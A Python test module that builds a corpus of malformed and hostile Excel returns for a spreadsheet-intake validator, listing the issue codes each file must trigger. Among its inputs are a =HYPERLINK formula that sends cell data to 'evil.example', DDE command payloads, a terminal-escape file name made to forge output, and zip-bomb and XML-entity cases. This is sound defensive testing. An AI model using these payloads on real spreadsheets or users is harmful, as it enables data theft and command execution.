"""A corpus of hostile and mistaken returns, each built here as bytes, with what it must produce.

:func:`build` takes a workspace whose templates are issued (the small plan of
``tests/conftest.py``) and returns a :class:`Corpus`: every :class:`Case` names its file, its
bytes, the issue codes (from ``nsm_excel/core/issue_codes.py``) that must appear, the status it must
end with and, for returns that are legitimately accepted, the values that must be stored.
Nothing is kept as a binary file: the cases are made from filled templates edited with
openpyxl, zip packages written with :mod:`zipfile`, raw XML and raw bytes.

Run ``python -m tests.corpus OUTDIR`` to make a workspace in OUTDIR with the whole corpus in its
inbox and ``corpus.txt`` listing what each file must produce; then ``nsm validate -w OUTDIR
--details`` shows what the validator says.
"""

from __future__ import annotations

import datetime as dt
import sys
import tempfile
from collections.abc import Callable
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any

from openpyxl.workbook.workbook import Workbook

from nsm_excel.cli import terminal
from nsm_excel.core.periods import period_or_raise
from nsm_excel.demo import filler
from nsm_excel.intake.run import validate_inbox
from nsm_excel.store import calendar, database
from nsm_excel.store.workspace import Workspace
from nsm_excel.template.generate import generate
from tests.conftest import make_workspace
from tests.corpus_parts import (
    ENTITIES,
    EXTERNAL_ENTITY,
    MIB,
    added_sheet,
    as_text,
    biff_workbook,
    compound_file,
    encrypted_package,
    external_link,
    flip_checksum,
    graft_identity,
    hide_row,
    many_parts,
    merge,
    ods,
    package,
    puts,
    raw_numbers,
    rename_sheet,
    sheet_twice,
    strip_identity,
    unprotect,
    with_dtd,
    with_macros,
    zeros_part,
)
from tests.corpus_poison import poison_cases
from tests.returns import TODAY, edit, filled, insert_row, locate, swap_rows

ACCEPTED, REJECTED, DUPLICATE, WAITING = "accepted", "rejected", "duplicate", "waiting"
RTL_EMOJI = "تم إنجاز العمل 📊 — העבודה הושלמה ✅ 👩‍👩‍👧 Puna u krye."
ALBANIAN_NAME = "Raporti i MB-së për gjashtëmujorin e parë — Çështjet ë Ë ç.xlsx"
# clears the screen, then starts lines of its own: a name the terminal must never obey
FORGING_NAME = "MB\x1b[2J\x1b]0;title\x07\r\nAKPA_2026-H1.xlsx   AKPA 2026-H1 accepted\x1b[0m.xlsx"

Cell = tuple[str, str, str]  # sheet, row code (or Cover field), column key
Change = Callable[[Workbook], Any]


@dataclass(frozen=True)
class Case:
    """One file of the corpus and what the validator must make of it."""

    name: str  # short and unique
    file: str  # the name it has in the inbox
    data: bytes
    codes: tuple[str, ...] = ()  # catalogue codes that must be among the file's issues
    status: str = REJECTED
    about: str = ""
    exact: bool = False  # the issues are exactly ``codes`` (in any order), nothing more
    values: tuple[tuple[Cell, Any], ...] = ()  # stored values of an accepted return
    institution: str = ""  # the institution the content names ("" when unidentified)
    age: int = 0  # seconds before now for the file's modification time
    mode: int | None = None  # file permissions to set in the inbox
    growing: bool = False  # a writer keeps changing the file while the run reads it


@dataclass
class Corpus:
    cases: list[Case]
    earlier: dict[str, bytes] = field(default_factory=dict)  # files of a run before the corpus

    def by_name(self, name: str) -> Case:
        return next(c for c in self.cases if c.name == name)


# --- the corpus ---


def _file_cases() -> list[Case]:
    """Files judged by their bytes alone: they never reach a spreadsheet library."""
    csv = "Kodi;Statusi;Shpenzuar\nA.1.1;Në zbatim;1 250 000\n".encode()
    html = b"<!DOCTYPE html><html><head><meta charset=utf-8></head><body><table><tr><td>MB"
    xml_2003 = b'<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?>\n<Workbook/>'
    docx = package({"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w:document/>"})
    return [
        Case("empty", "empty.xlsx", b"", ("file-empty",), about="0 bytes"),
        Case(
            "text-renamed",
            "text-renamed.xlsx",
            "Raporti do të dërgohet me postë javën tjetër.\n".encode(),
            ("file-not-excel",),
            about="a plain text note renamed .xlsx",
        ),
        Case("csv-renamed", "csv-renamed.xlsx", csv, ("file-not-excel",), about="CSV renamed"),
        Case(
            "pdf-renamed",
            "pdf-renamed.xlsx",
            b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
            ("file-not-excel",),
            about="a PDF renamed .xlsx",
        ),
        Case("html-renamed", "html-renamed.xls", html, ("file-not-excel",), about="web page"),
        Case("xml-2003", "xml-2003.xml", xml_2003, ("file-not-excel",), about="SpreadsheetML"),
        Case("ods", "report.ods", ods(), ("file-not-excel",), about="OpenDocument"),
        Case("docx-renamed", "docx-renamed.xlsx", docx, ("file-not-excel",), about="Word file"),
        Case(
            "legacy-xls",
            "legacy.xls",
            compound_file({"Workbook": biff_workbook()}),
            ("file-legacy-xls",),
            about="Excel 97-2003 (OLE container with a Workbook stream)",
        ),
        Case(
            "encrypted",
            "encrypted.xlsx",
            encrypted_package(),
            ("file-encrypted",),
            about="a password to open (OLE container with EncryptionInfo/EncryptedPackage)",
        ),
        Case(
            "too-large",
            "too-large.xlsx",
            b"PK\x03\x04" + bytes(21 * MIB),
            ("file-too-large",),
            about="21 MB, over the 20 MB limit",
        ),
    ]


def build(space: Workspace) -> Corpus:
    """Every case, made from the templates issued in ``space`` (it issues a few more)."""
    assert space.current_period().code == "2026-H1", "the corpus is made for the small plan"
    old_version = filled(space, "MB", seed=11)
    generate(space, institutions=["MB"], force=True)  # old_version is now superseded
    previous = period_or_raise("2025")
    with database.connect(space.database) as db:
        calendar.open_period(db, previous.code)
    generate(space, period=previous, institutions=["MB"])
    with database.connect(space.database) as db:
        calendar.close(db, previous.code)  # its returns are no longer counted
    other_period = filler.fill(
        space.template_path("MB", previous).read_bytes(), filler.Filling(1, TODAY)
    )
    with tempfile.TemporaryDirectory() as folder:
        elsewhere = make_workspace(Path(folder) / "elsewhere")
        generate(elsewhere, institutions=["MB"])
        foreign = filled(elsewhere, "MB", seed=2)

    mb = filled(space, "MB", seed=5)
    akpa = filled(space, "AKPA", seed=4)
    cases = _file_cases()
    cases += _package_cases(mb)
    cases += _identity_cases(space, mb, old_version, other_period, foreign)
    made_from_mb = (
        _structure_cases(mb),
        _value_cases(mb, akpa),
        _figure_cases(mb, akpa),
        _text_cases(mb),
        _echo_cases(mb),
    )
    for made in made_from_mb:
        cases += [replace(c, institution=c.institution or "MB") for c in made]
    cases += poison_cases(mb, Case)
    duplicate = filled(space, "AKPA", seed=9)
    cases += _delivery_cases(
        space, next(c for c in cases if c.name == "hidden-rows").data, duplicate
    )
    names = [c.name for c in cases]
    files = [c.file for c in cases]
    assert len(set(names)) == len(names) and len(set(files)) == len(files)
    return Corpus(cases, earlier={"AKPA_2026-H1.xlsx": duplicate})


def _package_cases(mb: bytes) -> list[Case]:
    half = len(mb) // 2
    return [
        Case(
            "truncated-zip",
            "truncated.xlsx",
            mb[:half],
            ("file-corrupt",),
            about="the first half of a filled template (a download cut short)",
        ),
        Case("bad-checksum", "bad-checksum.xlsx", flip_checksum(mb), ("file-corrupt",)),
        Case(
            "zip-bomb-size",
            "zip-bomb-size.xlsx",
            zeros_part(mb, 60 * MIB),
            ("file-zip-bomb",),
            about="a part that unpacks to 60 MB (over the 50 MB part limit)",
        ),
        Case(
            "zip-bomb-ratio",
            "zip-bomb-ratio.xlsx",
            zeros_part(mb, 2 * MIB),
            ("file-zip-bomb",),
            about="a 2 MB part compressed about 1000:1 (over 200:1)",
        ),
        Case(
            "zip-bomb-parts",
            "zip-bomb-parts.xlsx",
            many_parts(mb, 5001),
            ("file-zip-bomb",),
            about="more than 5,000 parts",
        ),
        Case(
            "billion-laughs",
            "billion-laughs.xlsx",
            with_dtd(mb, "xl/worksheets/sheet3.xml", ENTITIES),
            ("file-xml-entities",),
            about="nested entities in a worksheet part",
        ),
        Case(
            "external-entity",
            "external-entity.xlsx",
            with_dtd(mb, "xl/workbook.xml", EXTERNAL_ENTITY),
            ("file-xml-entities",),
            about="an entity that reads /etc/passwd",
        ),
        Case(
            "macros",
            "macros.xlsm",
            with_macros(mb),
            ("file-macro-enabled",),
            about="a .xlsm with a VBA part",
        ),
        Case(
            "external-link",
            "external-link.xlsx",
            external_link(mb),
            ("file-external-links",),
            about="a link to another workbook on a local disk",
        ),
    ]


def _identity_cases(
    space: Workspace, mb: bytes, old: bytes, other_period: bytes, foreign: bytes
) -> list[Case]:
    akpa = filled(space, "AKPA", seed=1)
    return [
        Case(
            "other-institution",
            "MB_2026-H1.xlsx",
            filled(space, "AKPA", seed=2),
            ("return-file-renamed",),
            ACCEPTED,
            "AKPA's filled template sent under MB's file name: the content decides",
            exact=True,
            institution="AKPA",
        ),
        Case(
            "other-period",
            "other-period.xlsx",
            other_period,
            ("return-period-closed",),
            about="MB's template for 2025, a closed period",
            institution="MB",
        ),
        Case(
            "older-version",
            "older-version.xlsx",
            old,
            ("return-older-version", "return-newer-version-answered"),
            about="version 1 of MB's template (its rows as in version 2) received after a return "
            "on version 2 was accepted in the same run (hidden-rows, ten minutes earlier)",
            exact=True,
            institution="MB",
        ),
        Case(
            "unknown-identity",
            "unknown-identity.xlsx",
            foreign,
            ("return-unknown-template",),
            about="a template issued by another secretariat",
            exact=True,
        ),
        Case(
            "identity-removed",
            "identity-removed.xlsx",
            edit(mb, strip_identity),
            ("return-no-identity",),
            about="custom property, defined names, Identity sheet and Cover id all removed",
            exact=True,
        ),
        Case(
            "identity-conflict",
            "identity-conflict.xlsx",
            edit(mb, graft_identity(akpa)),
            ("return-identity-conflict",),
            about="the Identity sheet of AKPA's template pasted into MB's",
            exact=True,
        ),
        Case(
            "identity-edited",
            "identity-edited.xlsx",
            puts(mb, ("Cover", "institution", "value", "AKPA")),
            ("return-identity-changed",),
            about="the Cover's institution code typed over",
            institution="MB",
        ),
    ]


def _structure_cases(mb: bytes) -> list[Case]:
    def case(name: str, change: Change, code: str, about: str, **more: Any) -> Case:
        return Case(name, f"{name}.xlsx", edit(mb, change), (code,), about=about, **more)

    return [
        case(
            "protection-removed",
            unprotect,
            "return-protection-removed",
            "sheet and workbook protection removed, content intact",
            status=ACCEPTED,
            exact=True,
        ),
        Case(
            "locked-changed",
            "locked-changed.xlsx",
            puts(mb, ("Measures", "A.1.1", "title", "Another title")),
            ("return-locked-changed",),
            exact=True,
            about="a measure's title typed over",
        ),
        case(
            "row-deleted",
            lambda b: b["Measures"].delete_rows(6),
            "return-row-removed",
            "",
            exact=True,
        ),
        case("row-inserted", insert_row, "return-row-added", "a measure row added"),
        case("rows-sorted", swap_rows, "return-rows-reordered", "two measure rows swapped"),
        case("sheet-renamed", rename_sheet, "return-sheet-renamed", "Measures renamed Masat"),
        case(
            "sheet-deleted",
            lambda b: b.remove(b["Indicators"]),
            "return-sheet-missing",
            "the Indicators sheet deleted",
            exact=True,
        ),
        case(
            "sheet-added",
            lambda b: b.create_sheet("Shënime"),
            "return-sheet-added",
            "a sheet of notes added",
            exact=True,
        ),
        case("merged-cells", merge, "return-merged-cells", "S5:T6 merged over answers"),
        case(
            "hidden-rows",
            hide_row,
            "return-hidden-rows",
            "a measure row hidden",
            status=ACCEPTED,
            exact=True,
            age=600,
        ),
        Case(
            "formula-locked",
            "formula-locked.xlsx",
            puts(mb, ("Measures", "A.1.1", "planned_cost", "=0*1")),
            ("return-formula",),
            exact=True,
            about="a formula in a pre-filled cell",
        ),
    ]


def _value_cases(mb: bytes, akpa: bytes) -> list[Case]:
    wrong_type: list[tuple[str, str, str, str, Any, str]] = [
        ("MB", "Measures", "A.1.1", "status", 42, "return-bad-status"),
        ("MB", "Measures", "A.1.1", "spent_state", "a lot", "return-bad-amount"),
        ("MB", "Measures", "A.1.1", "spent_donor", True, "return-bad-amount"),
        ("MB", "Measures", "A.1.1", "completion_date", "soon", "return-bad-date"),
        ("MB", "Indicators", "I.A.1.1.1", "actual", "perhaps", "return-bad-yes-no"),
        ("MB", "Indicators", "IO.A.2.1", "actual", "forty", "return-bad-number"),
        ("AKPA", "Indicators", "I.A.2.1.1", "actual", "many", "return-bad-number"),
        ("AKPA", "Indicators", "I.A.2.1.1", "actual_women", "twelve", "return-bad-whole"),
        ("AKPA", "Indicators", "I.A.2.1.1", "actual_men", 12.5, "return-bad-whole"),
        ("MB", "Cover", "reporter_email", "value", 42, "return-bad-email"),
        ("MB", "Cover", "submission_date", "value", "yesterday", "return-bad-date"),
    ]
    cases = [
        Case(
            f"wrong-type-{key if key != 'value' else code}-{code if key != 'value' else who}",
            f"wrong-type-{key if key != 'value' else code}-{code if key != 'value' else who}.xlsx",
            puts(mb if who == "MB" else akpa, (sheet, code, key, value)),
            (expected,),
            about=f"{value!r} in {sheet} {code} {key}",
            institution=who,
        )
        for who, sheet, code, key, value, expected in wrong_type
    ]
    when = dt.datetime(2026, 3, 1)
    not_text = [
        ("Measures", "A.1.1", "progress", when),
        ("Measures", "A.1.1", "next_steps", True),
        ("Measures", "A.2.1", "progress", 12.5),
        ("Indicators", "IO.A.2.1", "comment", 7),
        ("Cover", "reporter_phone", "value", 355691234567),
    ]
    cases.append(
        Case(
            "numbers-in-text-columns",
            "numbers-in-text-columns.xlsx",
            puts(mb, *not_text),
            (),
            ACCEPTED,
            "a date, a boolean and numbers in free-text columns are kept as text",
            exact=True,
            values=(
                (("Measures", "A.1.1", "progress"), "01.03.2026"),
                (("Measures", "A.1.1", "next_steps"), "TRUE"),
                (("Measures", "A.2.1", "progress"), "12.5"),
                (("Indicators", "IO.A.2.1", "comment"), "7"),
                (("Cover", "reporter_phone", "value"), "355691234567"),
            ),
            institution="MB",
        )
    )
    cases += _number_cases(mb) + _date_cases(mb)
    cases.append(
        Case(
            "misspelled-status",
            "misspelled-status.xlsx",
            puts(mb, ("Measures", "A.1.1", "status", "Me vonese")),
            ("return-bad-status",),
            about="a dropdown value typed without its ë",
        )
    )
    cases.append(
        Case(
            "misspelled-yes-no",
            "misspelled-yes-no.xlsx",
            puts(mb, ("Indicators", "I.A.1.1.1", "actual", "Po/Yess")),
            ("return-bad-yes-no",),
        )
    )
    return cases


def _number_cases(mb: bytes) -> list[Case]:
    first = (
        ("A.1.1", "spent_state", "1 250 000", 1_250_000),
        ("A.1.1", "spent_donor", "1.250.000,50", 1_250_000.5),
        ("A.2.1", "spent_state", "1,250.50", 1250.5),
        ("A.2.1", "spent_donor", "12,5", 12.5),
    )
    second = (
        ("A.1.1", "spent_state", "1\u00a0250\u00a0000 lekë", 1_250_000),
        ("A.1.1", "spent_donor", "ALL 1\u202f250\u202f000,50", 1_250_000.5),
        ("A.2.1", "spent_state", "1.250,5", 1250.5),
        ("A.2.1", "spent_donor", "2500 lek", 2500),
    )
    cases = []
    for name, styles in (("separators-1", first), ("separators-2", second)):
        cases.append(
            Case(
                name,
                f"{name}.xlsx",
                puts(mb, *[("Measures", code, key, text) for code, key, text, _ in styles]),
                ("return-overspent",),
                ACCEPTED,
                "amounts typed with spaces, dots, commas, no-break spaces and currency words; "
                "A.1.1 plans no cost for 2026, so its spending is also flagged (a warning)",
                exact=True,
                values=tuple((("Measures", code, key), v) for code, key, _, v in styles),
                institution="MB",
            )
        )
    for name, text, code in (
        ("ambiguous-number", "1,250", "return-ambiguous-number"),
        ("apostrophe-groups", "1'250'000", "return-bad-amount"),
        ("negative-amount", "-100", "return-negative-amount"),
    ):
        data = puts(mb, ("Measures", "A.1.1", "spent_state", text))
        cases.append(Case(name, f"{name}.xlsx", data, (code,), about=repr(text), exact=True))
    percent = ("Indicators", "IO.A.2.1", "actual")
    cases.append(
        Case(
            "percent-fraction",
            "percent-fraction.xlsx",
            puts(mb, (*percent, 0.45)),
            ("return-percent-fraction",),
            ACCEPTED,
            "0.45 typed for a percent: read as 0.45 %, with a warning",
            exact=True,
            values=((percent, 0.45),),
            institution="MB",
        )
    )
    cases.append(
        Case(
            "percent-whole",
            "percent-whole.xlsx",
            puts(mb, (*percent, 45)),
            (),
            ACCEPTED,
            "45 typed for a percent",
            exact=True,
            values=((percent, 45),),
            institution="MB",
        )
    )
    cases.append(
        Case(
            "percent-over",
            "percent-over.xlsx",
            puts(mb, (*percent, "145%")),
            ("return-percent-range",),
            exact=True,
        )
    )
    return cases


def _figure_cases(mb: bytes, akpa: bytes) -> list[Case]:
    """Figures no one can mean: two kinds of separators, error values, NaN, infinity, numbers
    beyond 10^15, impossible submission dates, a percent on a number indicator."""
    spent = ("Measures", "A.1.1", "spent_state")
    donor = ("Measures", "A.1.1", "spent_donor")
    # broken down by sex: a breakdown the filler left empty is asked for too, so the cases on
    # it name the code they are about without claiming it is the only one
    employed = ("Indicators", "I.A.2.1.1", "actual")
    mixed = ("1 250.000", "1.250,000", "1 250.000,5")
    cells = [spent, donor, ("Measures", "A.2.1", "spent_state")]
    sent = ("Cover", "submission_date", "value")

    def styled_percent(book: Workbook) -> None:
        cell = book["Indicators"][locate(book, *employed)]
        cell.value, cell.number_format = 0.45, "0%"

    cases = [
        Case(
            "mixed-separators",
            "mixed-separators.xlsx",
            puts(mb, *[(*cell, text) for cell, text in zip(cells, mixed, strict=True)]),
            ("return-mixed-separators",) * 3,
            about=f"amounts typed {', '.join(mixed)}: each readable two ways",
            exact=True,
        ),
        Case(
            "mixed-separators-indicator",
            "mixed-separators-indicator.xlsx",
            puts(akpa, (*employed, "1,250.000")),
            ("return-mixed-separators",),
            about="an indicator value typed 1,250.000",
            institution="AKPA",
        ),
        Case(
            "error-values",
            "error-values.xlsx",
            puts(mb, (*spent, "#DIV/0!"), ("Cover", "reporter_name", "value", "#N/A")),
            ("return-error-value",) * 2,
            about='cells of error type (t="e"): #DIV/0! pasted as an amount, #N/A as the '
            "required reporter's name",
            exact=True,
        ),
        Case(
            "nan-number",
            "nan-number.xlsx",
            raw_numbers(mb, (*donor, b"NaN")),
            ("return-error-value",),
            about="a number cell holding NaN",
            exact=True,
        ),
        Case(
            "infinite-numbers",
            "infinite-numbers.xlsx",
            raw_numbers(puts(mb, (*donor, "9" * 400)), (*spent, b"9" * 400)),
            ("return-number-too-large",) * 2,
            about="400 digits in a number cell (read as infinity) and typed as text",
            exact=True,
        ),
        Case(
            "huge-amount",
            "huge-amount.xlsx",
            puts(mb, (*spent, 1e308)),
            ("return-number-too-large",),
            about="1e308 lek spent: beyond 10^15",
            exact=True,
        ),
        Case(
            "huge-indicator",
            "huge-indicator.xlsx",
            raw_numbers(akpa, (*employed, b"1e400")),
            ("return-number-too-large",),
            about="an indicator value of 1e400 (infinity) in a number cell",
            institution="AKPA",
        ),
        Case(
            "submitted-year-9999",
            "submitted-year-9999.xlsx",
            puts(mb, (*sent, dt.datetime(9999, 12, 31))),
            ("return-submission-date-out-of-range",),
            about="a submission date of 31.12.9999",
            exact=True,
        ),
        Case(
            "submitted-before-period",
            "submitted-before-period.xlsx",
            puts(mb, (*sent, "31.12.2025")),
            ("return-submission-date-out-of-range",),
            about="a submission date before the period began",
        ),
        Case(
            "submitted-after-received",
            "submitted-after-received.xlsx",
            puts(mb, (*sent, (dt.date.today() - dt.timedelta(days=5)).strftime("%d.%m.%Y"))),
            ("return-submission-date-out-of-range",),
            about="a submission date after the day the file was received (20 days ago)",
            exact=True,
            age=20 * 86400,
        ),
        Case(
            "percent-on-number-typed",
            "percent-on-number-typed.xlsx",
            puts(akpa, (*employed, "45%")),
            ("return-percent-on-number",),
            about="45% typed as a number indicator's value",
            institution="AKPA",
        ),
        Case(
            "percent-on-number-styled",
            "percent-on-number-styled.xlsx",
            edit(akpa, styled_percent),
            ("return-percent-on-number",),
            about="0.45 shown as 45% in a number indicator's cell (as typing 45% leaves it)",
            institution="AKPA",
        ),
    ]
    for name, copy_named in (("sheet-twice", "Measures"), ("sheet-twice-case", "MEASURES")):
        cases.append(
            Case(
                name,
                f"{name}.xlsx",
                sheet_twice(mb, "Measures", copy_named),
                ("return-sheet-duplicate",),
                about=f"a second sheet named {copy_named} (its XML edited): nothing is read",
                exact=True,
            )
        )
    return cases


def _date_cases(mb: bytes) -> list[Case]:
    completion = ("Measures", "A.1.1", "completion_date")
    submission = ("Cover", "submission_date", "value")
    forms = (
        ("dates-as-text-1", "15.03.2025", "15/07/2026"),
        ("dates-as-text-2", "2025-03-15", "15-07-2026"),
        ("dates-as-text-3", 45731, " 15.07.2026 "),  # an Excel serial number; spaces around
    )
    cases = [
        Case(
            name,
            f"{name}.xlsx",
            puts(mb, (*completion, done), (*submission, sent)),
            (),
            ACCEPTED,
            f"dates typed as {done!r} and {sent!r}",
            exact=True,
            values=((completion, "2025-03-15"), (submission, "2026-07-15")),
            institution="MB",
        )
        for name, done, sent in forms
    ]
    for name, done, sent in (
        ("impossible-date", "31.02.2025", "15.07.2026"),
        ("impossible-month", "15.03.2025", "2026-13-01"),
        ("two-digit-year", "15.03.25", "15.07.2026"),
    ):
        data = puts(mb, (*completion, done), (*submission, sent))
        cases.append(Case(name, f"{name}.xlsx", data, ("return-bad-date",), about=f"{done} {sent}"))
    return cases


def _text_cases(mb: bytes) -> list[Case]:
    evidence = ("Measures", "A.1.1", "evidence")
    hyperlink = '=HYPERLINK("http://evil.example/steal?d="&A1,"Raporti")'
    dde = "=cmd|' /C calc'!A0"
    return [
        Case(
            "formula",
            "formula.xlsx",
            puts(mb, ("Measures", "A.1.1", "spent_donor", "=1000*2")),
            ("return-formula",),
            exact=True,
        ),
        Case(
            "hyperlink-formula",
            "hyperlink-formula.xlsx",
            puts(mb, (*evidence, hyperlink)),
            ("return-formula",),
            exact=True,
            about="=HYPERLINK that would send data out",
        ),
        Case(
            "dde-formula",
            "dde-formula.xlsx",
            puts(mb, ("Measures", "A.1.1", "next_steps", dde)),
            ("return-formula",),
            exact=True,
            about="a DDE call stored as a formula",
        ),
        Case(
            "hyperlink-as-text",
            "hyperlink-as-text.xlsx",
            edit(mb, as_text(*evidence, hyperlink)),
            ("return-formula-like-text",),
            ACCEPTED,
            "=HYPERLINK typed as text: kept as text, with a warning",
            exact=True,
            values=((evidence, hyperlink),),
            institution="MB",
        ),
        Case(
            "dde-as-text",
            "dde-as-text.xlsx",
            edit(mb, as_text("Measures", "A.1.1", "next_steps", "+cmd|' /C calc'!A0")),
            ("return-formula-like-text",),
            ACCEPTED,
            "a DDE payload typed as text",
            exact=True,
            values=((("Measures", "A.1.1", "next_steps"), "+cmd|' /C calc'!A0"),),
            institution="MB",
        ),
        Case(
            "text-40000",
            "text-40000.xlsx",
            puts(mb, ("Measures", "A.1.1", "progress", "Puna vazhdon. " * 2858)),
            ("return-text-too-long",),
            exact=True,
            about="40,000 characters of progress",
        ),
        Case(
            "control-characters",
            "control-characters.xlsx",
            puts(mb, ("Measures", "A.1.1", "next_steps", "Hapi_x0007_ tjetër_x001B_[31m")),
            ("return-control-characters",),
            ACCEPTED,
            "a bell and an escape sequence in the text",
            exact=True,
            values=((("Measures", "A.1.1", "next_steps"), "Hapi tjetër[31m"),),
            institution="MB",
        ),
        Case(
            "rtl-emoji",
            "rtl-emoji.xlsx",
            puts(mb, ("Measures", "A.1.1", "progress", RTL_EMOJI)),
            (),
            ACCEPTED,
            "Arabic, Hebrew and emoji (with joiners) kept as typed",
            exact=True,
            values=((("Measures", "A.1.1", "progress"), RTL_EMOJI),),
            institution="MB",
        ),
    ]


def _echo_cases(mb: bytes) -> list[Case]:
    """Text the validator echoes into its messages and the feedback copy: control characters,
    a sheet name that is a DDE call, a formula in a locked Cover cell."""
    bell = "Profili_x0007_ i migracionit_x001B_[31m"
    hyperlink = '=HYPERLINK("http://evil.example/steal?d="&C6,"Strategjia")'
    return [
        Case(
            "control-in-locked-title",
            "control-in-locked-title.xlsx",
            puts(mb, ("Measures", "A.1.1", "title", bell)),
            ("return-locked-changed",),
            exact=True,
            about="a bell and an escape sequence typed into a locked title",
        ),
        Case(
            "control-in-row-code",
            "control-in-row-code.xlsx",
            puts(mb, ("Measures", "A.1.1", "measure_code", "A.1.1_x0007_")),
            ("return-row-added", "return-row-removed"),
            exact=True,
            about="a bell after a measure's code",
        ),
        Case(
            "control-in-cover-institution",
            "control-in-cover-institution.xlsx",
            puts(mb, ("Cover", "institution", "value", "MB_x001B_[31m_x0000_")),
            ("return-identity-changed", "return-locked-changed"),
            exact=True,
            about="an escape sequence and a NUL after the Cover's institution code",
        ),
        Case(
            "sheet-added-dde",
            "sheet-added-dde.xlsx",
            added_sheet(mb, "=cmd|' /C calc'!A0"),
            ("return-sheet-added",),
            exact=True,
            about="a sheet added whose name is a DDE call",
        ),
        Case(
            "sheet-added-formula",
            "sheet-added-formula.xlsx",
            added_sheet(mb, "=cmd|'-C calc'!A0"),
            ("return-sheet-added",),
            exact=True,
            about="a sheet added whose name is a formula (a name openpyxl can open)",
        ),
        Case(
            "hyperlink-in-cover",
            "hyperlink-in-cover.xlsx",
            puts(mb, ("Cover", "strategy", "value", hyperlink)),
            ("return-locked-changed",),
            about="=HYPERLINK typed over the Cover's strategy name",
        ),
    ]


def _delivery_cases(space: Workspace, hidden: bytes, duplicate: bytes) -> list[Case]:
    return [
        Case(
            "duplicate-earlier",
            "AKPA_2026-H1 resent.xlsx",
            duplicate,
            ("file-duplicate",),
            DUPLICATE,
            "the same bytes as a file received in an earlier run",
            exact=True,
            institution="AKPA",
        ),
        Case(
            "duplicate-same-run",
            "hidden-rows_kopje.xlsx",
            hidden,
            ("file-duplicate",),
            DUPLICATE,
            "a copy of hidden-rows.xlsx in the same run, received later",
            exact=True,
            institution="MB",
            age=300,
        ),
        Case(
            "same-institution-first",
            "AIDA first.xlsx",
            filled(space, "AIDA", seed=1),
            (),
            ACCEPTED,
            "AIDA's first return of the run; superseded by the second",
            exact=True,
            institution="AIDA",
            age=7200,
        ),
        Case(
            "same-institution-second",
            "AIDA second.xlsx",
            filled(space, "AIDA", seed=2),
            (),
            ACCEPTED,
            "AIDA's second return of the run, received an hour later",
            exact=True,
            institution="AIDA",
            age=3600,
        ),
        Case(
            "still-writing",
            "still-writing.xlsx",
            filled(space, "MB", seed=6),
            ("file-still-writing",),
            WAITING,
            "a copy still in progress: the file keeps changing during the run",
            exact=True,
            growing=True,
        ),
        Case(
            "albanian-name",
            ALBANIAN_NAME,
            filled(space, "MB", seed=7),
            (),
            ACCEPTED,
            "a file name with spaces, a dash and Albanian letters",
            exact=True,
            institution="MB",
        ),
        Case(
            "control-characters-name",
            FORGING_NAME,
            filled(space, "MB", seed=9),
            (),
            ACCEPTED,
            "a name with ESC sequences, CR and LF that would forge a line of the run's output",
            exact=True,
            institution="MB",
        ),
        Case(
            "read-only",
            "read-only.xlsx",
            filled(space, "MB", seed=8),
            (),
            ACCEPTED,
            "a read-only file in the inbox",
            exact=True,
            institution="MB",
            mode=0o444,
        ),
    ]


# --- writing the corpus for a person to look at ---


def manifest(corpus: Corpus) -> str:
    lines = []
    for case in corpus.cases:
        codes = ", ".join(case.codes) or "no issue"
        shown = terminal.shown(case.file)  # read in a terminal: names with controls escaped
        lines.append(f"{shown}\n    {case.status}: {codes}. {case.about}".rstrip())
    return "\n".join(lines) + "\n"


def write(corpus: Corpus, folder: Path) -> None:
    """Each case's file (or each earlier file when there are no cases) in ``folder``.

    Modes, ages and the growing writer are not applied: the files are for reading.
    """
    folder.mkdir(parents=True, exist_ok=True)
    files = [(c.file, c.data) for c in corpus.cases] or list(corpus.earlier.items())
    for name, data in files:
        (folder / name).write_bytes(data)


def main(argv: list[str]) -> int:
    if len(argv) != 1:
        print("usage: python -m tests.corpus OUTDIR", file=sys.stderr)
        return 2
    root = Path(argv[0])
    space = make_workspace(root)
    generate(space)
    corpus = build(space)
    write(Corpus([], corpus.earlier), space.inbox)
    validate_inbox(space)  # the earlier run, which the duplicate repeats
    write(corpus, space.inbox)
    (root / "corpus.txt").write_text(manifest(corpus), encoding="utf-8")
    print(f"{len(corpus.cases)} files in {space.inbox}; expected results in {root / 'corpus.txt'}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
